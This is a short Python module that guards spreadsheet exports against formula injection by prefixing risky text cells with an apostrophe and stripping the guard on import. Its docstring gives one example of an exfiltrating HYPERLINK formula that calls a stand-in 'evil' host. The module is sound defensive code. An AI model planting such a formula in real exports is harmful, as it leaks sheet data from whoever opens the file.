"""Spreadsheet formula injection (CSV / XLSX injection): the guard every export writes and every
import strips, so a round trip is lossless.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and some also after a leading tab
or carriage return) as a formula: a title `=HYPERLINK("http://evil/?"&A1, "Open")` would leak the
sheet when a leader opens the export. Following OWASP's CSV-injection guidance, such a text cell
goes out with a leading apostrophe, which spreadsheets read as "this is text". A text that itself
starts with an apostrophe gets one more, so the importer can always tell its own guard apart.

Numbers are never guarded: a value that is a plain number literal (`-5`, `+3.25`, `1e-3`) cannot
be a formula, and a numeric column must stay numeric in the spreadsheet and on the way back.
"""

import re

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
GUARD = "'"
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def guard(value):
    """The value as an export writes it: text that a spreadsheet would run gets a leading `'`."""
    if not isinstance(value, str) or not value:
        return value
    if value.startswith(GUARD) or (value.startswith(FORMULA_TRIGGERS) and not _NUMBER.fullmatch(value)):
        return GUARD + value
    return value


def unguard(value: str) -> str:
    """The value as it was before `guard`: strips our apostrophe, leaves any other text alone."""
    if len(value) > 1 and value[0] == GUARD and value[1] in (GUARD, *FORMULA_TRIGGERS):
        return value[1:]
    return value


def guarded_row(values) -> list:
    return [guard(value) for value in values]


def xlsx_row(sheet, values) -> list:
    """A write-only sheet's row: guarded values, text typed as a string cell, never a formula
    (openpyxl would otherwise store any text starting with `=` as a formula)."""
    from openpyxl.cell import WriteOnlyCell

    cells = []
    for value in guarded_row(values):
        cell = WriteOnlyCell(sheet, value=value)
        if isinstance(value, str):
            cell.data_type = "s"
        cells.append(cell)
    return cells
